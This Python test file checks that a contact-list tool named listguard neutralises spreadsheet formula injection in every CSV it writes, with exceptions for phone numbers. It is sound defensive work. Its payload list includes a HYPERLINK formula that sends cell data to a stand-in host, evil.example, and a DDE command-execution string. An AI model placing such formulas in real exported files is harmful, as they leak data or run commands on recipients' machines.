"""No cell of a CSV listguard writes acts as a spreadsheet formula (formats.md, "Writing
files"): a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
gets a leading ``'``, but for E.164 numbers in a column of coordinates. Checked on the
rule itself (its Python, Polars and DuckDB forms agree) and on every file written:
delivery, rejects, enrichment, deduplication, addresses, the partners' file drop."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import duckdb
import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine

from listguard.imports import import_file
from listguard.io.formula import (
    FORMULA_STARTS,
    neutralise,
    neutralised_frame,
    neutralised_sql,
    restore,
)
from listguard.oppositions import record_opposition
from listguard.processing.addresses import restructure_file
from listguard.processing.linkage import link_files
from listguard.propagation.transports.file_drop import FileDropTransport
from listguard.propagation.transports.routing import Transports
from listguard.propagation.worker import run_once
from tests.scenario import Scenario, contact, write_csv

# the payloads, and the other dangerous first characters
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "\t=1+1",
    "-2+3",
    "\r=1",
]
E164 = re.compile(r"\+[1-9][0-9]{1,14}(\|\+[1-9][0-9]{1,14})*")


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f, delimiter=";"))


def _cells(path: Path) -> list[list[str]]:
    """Every row of a CSV file, the header first."""
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f, delimiter=";"))


def _unsafe(path: Path, numbers: tuple[str, ...] = ()) -> list[tuple[str, str]]:
    """The cells of ``path`` (header included) that a spreadsheet would evaluate: those
    starting with a dangerous character, but for E.164 numbers in a ``numbers`` column."""
    rows = _cells(path)
    header = rows[0]
    bad = [("header", h) for h in header if h.startswith(FORMULA_STARTS)]
    for row in rows[1:]:
        for name, cell in zip(header, row, strict=True):
            if cell.startswith(FORMULA_STARTS) and not (name in numbers and E164.fullmatch(cell)):
                bad.append((name, cell))
    return bad


# -- the rule ----------------------------------------------------------------------------


# the payloads, any text after a dangerous character, behind quotes or not
_hostile_text = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(
        lambda q, c, t: q + c + t,
        st.sampled_from(["", "'", "''"]),
        st.sampled_from([*FORMULA_STARTS, "'", "a", "0"]),
        st.text(),
    ),
)


def _three_forms(values: Sequence[str | None], numbers: bool) -> list[list[str | None]]:
    """``values`` neutralised by the Python function, the Polars expression and DuckDB."""
    python = [None if v is None else neutralise(v, numbers=numbers) for v in values]
    frame = pl.DataFrame({"v": list(values)}, schema={"v": pl.String})
    polars = neutralised_frame(frame, numbers=["v"] if numbers else []).to_series().to_list()
    db = duckdb.connect()
    db.register("t", frame.to_arrow())
    sql = neutralised_sql('"v"', numbers=numbers)
    duck = [r[0] for r in db.sql(f"SELECT {sql} FROM t").fetchall()]
    db.close()
    return [python, polars, duck]


@pytest.mark.parametrize("numbers", [False, True])
def test_each_payload_gets_a_quote_in_every_form(numbers: bool) -> None:
    for form in _three_forms(PAYLOADS, numbers):
        assert form == ["'" + p for p in PAYLOADS]


def test_e164_passes_only_in_a_column_of_coordinates() -> None:
    values = [
        "+33612345678",
        "+33612345678|+262692123456",
        "+33 6 12 34 56 78",  # kept as given: not proven harmless
        "+33612345678|=1+1",
        "+1",
        "Dupont",
        "marie@example.com",
        "'=1",  # quoted by its author: one quote more, so that nothing is lost
        "'Aujourd'hui",
        "",
        None,
    ]
    as_numbers = [
        "+33612345678",
        "+33612345678|+262692123456",
        "'+33 6 12 34 56 78",
        "'+33612345678|=1+1",
        "'+1",
        "Dupont",
        "marie@example.com",
        "''=1",
        "'Aujourd'hui",
        "",
        None,
    ]
    for form in _three_forms(values, numbers=True):
        assert form == as_numbers
    # a free-text column gets no exception for the shape of a number
    for form in _three_forms(values, numbers=False):
        assert form[:5] == ["'" + v for v in values[:5] if v is not None]
        assert form[5:] == as_numbers[5:]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.none(), st.text(), _hostile_text), max_size=20))
def test_any_text_is_written_safe_and_nothing_is_lost(values: list[str | None]) -> None:
    for numbers in (False, True):
        python, polars, duck = _three_forms(values, numbers)
        assert python == polars == duck
        for given_value, written in zip(values, python, strict=True):
            if given_value is None:
                assert written is None
                continue
            assert written is not None
            safe = not written.startswith(FORMULA_STARTS) or (
                numbers and E164.fullmatch(written) is not None
            )
            assert safe, written
            # the quote is added only to what needs it, and removing it gives the value back
            assert restore(written) == given_value
            if written != given_value:
                assert written == "'" + given_value
                assert given_value.lstrip("'").startswith(FORMULA_STARTS)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.lists(
        st.tuples(_hostile_text, st.text(), st.sampled_from(["+33612345678", "+1+1", "-", "'+1"])),
        min_size=1,
        max_size=8,
    )
)
def test_what_the_writers_write_is_safe_once_read_back(
    tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[str, str, str]]
) -> None:
    """Through the real writers (the csv module, Polars, DuckDB's COPY) and read back by a
    CSV reader: no cell a spreadsheet evaluates, and every value there, quote aside."""
    from listguard.io.csvout import CsvWriter, write_frame_csv
    from listguard.rules.files import write_csv

    folder = tmp_path_factory.mktemp("writers")
    frame = pl.DataFrame(rows, schema=["name", "text", "phone"], orient="row")
    header = ["name", "text", "phone"]
    writer = CsvWriter(folder / "writer.csv", header)
    writer.write_frame(frame, numbers=["phone"])
    writer.close()
    writer = CsvWriter(folder / "rows.csv", header)  # cell by cell: no number passes
    writer.write_rows(rows)
    writer.close()
    with (folder / "polars.csv").open("wb") as f:
        write_frame_csv(f, frame, ";", header=True, numbers=["phone"])
    db = duckdb.connect()
    db.register("t", frame.to_arrow())
    write_csv(db, "SELECT * FROM t", {}, folder / "duckdb.csv", ";", numbers=("phone",))
    db.close()
    for name in ("writer.csv", "rows.csv", "polars.csv", "duckdb.csv"):
        path = folder / name
        assert not _unsafe(path, numbers=("phone",)), name
        back = [tuple(restore(c) for c in r) for r in _cells(path)[1:]]
        assert back == rows, name


# -- the files -------------------------------------------------------------------------


def _hostile_id(i: int) -> str:
    return f"{PAYLOADS[i]}{i}" if i % 2 else PAYLOADS[i]


def _hostile_contacts() -> list[dict[str, Any]]:
    """A contact per payload, the payload in every free-text field and its id; one with
    an email that is valid but starts with ``=`` and a number kept as given."""
    rows = []
    for i, p in enumerate(PAYLOADS):
        rows.append(
            contact(
                _hostile_id(i),
                first_name=p,
                last_name=p,
                company=p,
                address_line2=p,
                address_line4=f"{10 + i} rue de la Paix",
                mobile=f"06 12 34 56 {10 + i}",
                email=f"m{i}@example.com",
            )
        )
    rows.append(contact("C-odd", email="=1+1@example.com", phone="+1+1", mobile="06 98 76 54 32"))
    return rows


def test_a_delivery_neutralises_names_ids_and_addresses_not_numbers(
    any_engine: Engine, tmp_path: Path
) -> None:
    sc = Scenario(any_engine, tmp_path, contacts=_hostile_contacts())
    sc.load()
    report, decisions = sc.rent(channels=("postal", "phone", "sms", "email"))
    out = tmp_path / "out"
    delivered = _read(out / "contacts.csv")
    assert report.contacts_delivered == len(delivered) == len(PAYLOADS) + 1
    names = [r for r in delivered if r["last_name"] != "Exemple"]
    assert len(names) == len(PAYLOADS)
    for r in names:
        for field in ("first_name", "last_name", "company", "address_line2"):
            # stored trimmed (the tab and the carriage return go), quoted on the way out
            assert r[field].startswith("'") and r[field][1:].startswith(FORMULA_STARTS), r
        assert r["sms"].startswith("+336") and r["email"].endswith("@example.com")
    odd = next(r for r in delivered if r["last_name"] == "Exemple")
    # a valid address starting with "=" is no proof of harmlessness: quoted
    assert odd["email"] == "'=1+1@example.com"
    assert odd["sms"] == "+33698765432"
    assert not _unsafe(out / "contacts.csv", numbers=("phone", "sms"))
    # decisions.csv: the owner's ids and the coordinates as given, quoted; E.164 not
    ids = {r["contact_id"] for r in decisions}
    assert ids == {"'" + _hostile_id(i).strip() for i in range(len(PAYLOADS))} | {"C-odd"}
    invalid = [r for r in decisions if "invalid_coordinate" in r["reasons"]]
    assert {r["coordinate"] for r in invalid if r["channel"] == "phone"} == {"'+1+1"}
    valid = {r["coordinate"] for r in decisions if r["channel"] == "sms" and r not in invalid}
    assert "+33698765432" in valid and all(n.startswith("+33") for n in valid)
    postal = [r["coordinate"] for r in decisions if r["channel"] == "postal"]
    assert sum(c.startswith("'") for c in postal) == len(PAYLOADS)
    assert not _unsafe(out / "decisions.csv", numbers=("coordinate",))


def test_the_rejects_file_neutralises_values(engine: Engine, tmp_path: Path) -> None:
    rows = [contact(f"C{i}", partners_email=p, civility=p) for i, p in enumerate(PAYLOADS)]
    rows.append(contact("", first_name="=1+1"))  # no id: rejected
    path = write_csv(tmp_path / "contacts.csv", rows)
    report = import_file(engine, "contacts", path)
    assert report.rejects_path is not None and report.rows_rejected == len(rows)
    rejects = _read(report.rejects_path)
    values = {r["value"] for r in rejects if r["column"] == "partners_email"}
    assert values == {"'" + p for p in PAYLOADS}  # as given, the tab and CR kept
    assert not _unsafe(report.rejects_path)


def test_deduplication_and_addresses_neutralise_their_outputs(tmp_path: Path) -> None:
    person = {
        "first_name": "Marie",
        "last_name": "Exemple",
        "address_line4": "12 rue de la Paix",
        "postal_code": "75002",
        "city": "Paris",
        "email": "marie.exemple@example.com",
        "birth_date": "1980-02-03",
    }
    rows = [{"contact_id": p, **person} for p in PAYLOADS[:4]]
    rows += [{"contact_id": "=A1", **person, "address_line2": "=B1"}]
    path = write_csv(tmp_path / "file.csv", rows)
    report = link_files([path], tmp_path / "dedupe")
    assert report.pairs >= 1
    pairs = _read(tmp_path / "dedupe" / "pairs.csv")
    assert {r["id_a"] for r in pairs} | {r["id_b"] for r in pairs} <= {
        "'" + r["contact_id"] for r in rows
    }
    for name in ("pairs.csv", "clusters.csv"):
        assert not _unsafe(tmp_path / "dedupe" / name), name
    restructure_file(path, tmp_path / "rnvp")
    addresses = _read(tmp_path / "rnvp" / "addresses.csv")
    assert [r["contact_id"] for r in addresses] == ["'" + r["contact_id"] for r in rows]
    assert not _unsafe(tmp_path / "rnvp" / "addresses.csv")


def test_an_enrichment_neutralises_the_client_file_and_the_matches(
    engine: Engine, tmp_path: Path
) -> None:
    from listguard.config import Settings
    from listguard.processing.enrich import enrich, make_order
    from tests.test_enrich import AS_OF, Case

    case = Case(engine, tmp_path)
    # the client's ids, a column of its own and that column's name are hostile
    client = _read(case.client)
    hostile = [
        {**r, "Ref": PAYLOADS[i % len(PAYLOADS)] + str(i), "=SUM(A1)": PAYLOADS[i % 7]}
        for i, r in enumerate(client)
    ]
    write_csv(case.client, hostile)
    order = make_order("P1", ["postal", "sms", "email"], "Offre test", as_of=AS_OF)
    out = tmp_path / "out"
    report = enrich(
        engine, case.client, out, Settings(), order, maps=["Prenom=first_name"], id_column="Ref"
    )
    assert report.match.enriched > 0
    enriched = _cells(out / "enriched.csv")
    assert "'=sum(a1)" in enriched[0]  # column names are read lower-cased
    assert not _unsafe(out / "enriched.csv", numbers=("appended_sms",))
    rows = _read(out / "enriched.csv")
    assert [r["ref"] for r in rows] == ["'" + r["Ref"] for r in hostile]
    given_sms = [r["appended_sms"] for r in rows if r["appended_sms"]]
    assert given_sms and all(E164.fullmatch(s) for s in given_sms)
    assert not _unsafe(out / "matches.csv")
    assert not _unsafe(out / "decisions.csv", numbers=("coordinate",))


def test_the_file_drop_neutralises_coordinates(engine: Engine, tmp_path: Path) -> None:
    sc = Scenario(
        engine,
        tmp_path,
        contacts=[contact("C1", address_line2="=cmd|' /C calc'!A0", email="=1+1@example.com")],
    )
    sc.load()
    sc.rent(channels=("postal", "sms", "email"))
    record_opposition(engine, channel="all", contact_id="C1")
    run_once(engine, Transports(file_drop=FileDropTransport(tmp_path / "drop")))
    (dropped,) = (tmp_path / "drop" / "P1").glob("*.csv")
    rows = _read(dropped)
    coordinates = {r["channel"]: r["coordinate"] for r in rows}
    assert coordinates["email"] == "'=1+1@example.com"
    assert coordinates["postal"] == "'=cmd|' /C calc'!A0, 12 rue de la Paix, 75002 Paris"
    assert coordinates["sms"] == "+33612345678"
    assert not _unsafe(dropped, numbers=("coordinate",))


def test_a_quoted_cell_reads_back_through_a_csv_reader() -> None:
    """The quote is text like any other: a value holding the separator or quotes still
    round-trips through a CSV reader."""
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerow([neutralise('=A1;"x"')])
    assert next(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == ['\'=A1;"x"']


def test_the_bloctel_export_holds_only_national_numbers(engine: Engine, tmp_path: Path) -> None:
    """Not neutralised, and needs not be: numbers the normaliser made, in national form."""
    from listguard.bloctel import export_numbers
    from listguard.config import RuleSettings

    sc = Scenario(engine, tmp_path, contacts=_hostile_contacts())
    sc.load()
    out = tmp_path / "bloctel.csv"
    assert export_numbers(engine, out, RuleSettings(), dt.date(2026, 11, 28)) == len(PAYLOADS) + 1
    rows = _cells(out)
    assert rows[0] == ["Telephone", "Identifiant"]
    assert all(re.fullmatch(r"0[1-9][0-9]{8}", r[0]) and r[1].isdigit() for r in rows[1:])
